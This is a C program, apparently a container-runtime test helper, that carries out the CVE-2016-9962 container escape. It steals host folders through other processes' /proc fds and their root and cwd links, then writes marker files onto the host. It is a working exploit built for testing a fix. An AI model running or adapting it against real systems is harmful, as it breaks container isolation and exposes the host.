/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * fd-thief HOST_PATH STOP_FILE: the CVE-2016-9962 attack, run in a
 * container granted CAP_SYS_PTRACE. Until STOP_FILE exists (inside the
 * container), it watches /proc for processes other than itself and its
 * PID 1 and tries every fd of each, and its root and cwd links: as a
 * folder, it creates "pwned" in it (the state folder, a cgroup folder)
 * and climbs with ".." to the host's root to create HOST_PATH there. Prints what it saw ("seen N fds
 * of M processes") and one line "ESCAPED ..." per file it made. Exit 0.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define CLIMB "../../../../../../../../../../../../../../../.."

static unsigned long fds_seen, escapes;

static void try_create(const char *path, const char *what)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);

	if (fd < 0)
		return;
	close(fd);
	escapes++;
	printf("ESCAPED %s: made %s\n", what, path);
	fflush(stdout);
}

/* The process's root and cwd: a host folder before it enters the
 * container's root is as good as an fd. */
static void rob_links(const char *pid, const char *host_path)
{
	static const char *const links[] = { "root", "cwd" };
	char path[4096];

	for (size_t i = 0; i < sizeof(links) / sizeof(links[0]); i++) {
		snprintf(path, sizeof(path), "/proc/%s/%s/pwned", pid, links[i]);
		try_create(path, links[i]);
		snprintf(path, sizeof(path), "/proc/%s/%s/" CLIMB "%s", pid, links[i], host_path);
		try_create(path, links[i]);
	}
}

static void rob(const char *pid, const char *host_path)
{
	char dir[64], path[4096];
	DIR *d;
	struct dirent *e;

	rob_links(pid, host_path);
	snprintf(dir, sizeof(dir), "/proc/%s/fd", pid);
	d = opendir(dir);
	if (!d)
		return;
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		fds_seen++;
		snprintf(path, sizeof(path), "%s/%s/pwned", dir, e->d_name);
		try_create(path, "into the fd's folder");
		snprintf(path, sizeof(path), "%s/%s/" CLIMB "%s", dir, e->d_name, host_path);
		try_create(path, "climbing out of the fd");
	}
	closedir(d);
}

int main(int argc, char **argv)
{
	char self[16];
	unsigned long procs = 0;

	if (argc != 3) {
		fprintf(stderr, "usage: fd-thief HOST_PATH STOP_FILE\n");
		return 2;
	}
	snprintf(self, sizeof(self), "%d", (int)getpid());
	while (access(argv[2], F_OK) != 0) {
		DIR *p = opendir("/proc");
		struct dirent *e;

		if (!p)
			return 2;
		while ((e = readdir(p))) {
			if (e->d_name[0] < '1' || e->d_name[0] > '9' || !strcmp(e->d_name, self) ||
			    !strcmp(e->d_name, "1"))
				continue;
			procs++;
			rob(e->d_name, argv[1]);
		}
		closedir(p);
	}
	printf("seen %lu fds of %lu processes, %lu escapes\n", fds_seen, procs, escapes);
	return 0;
}
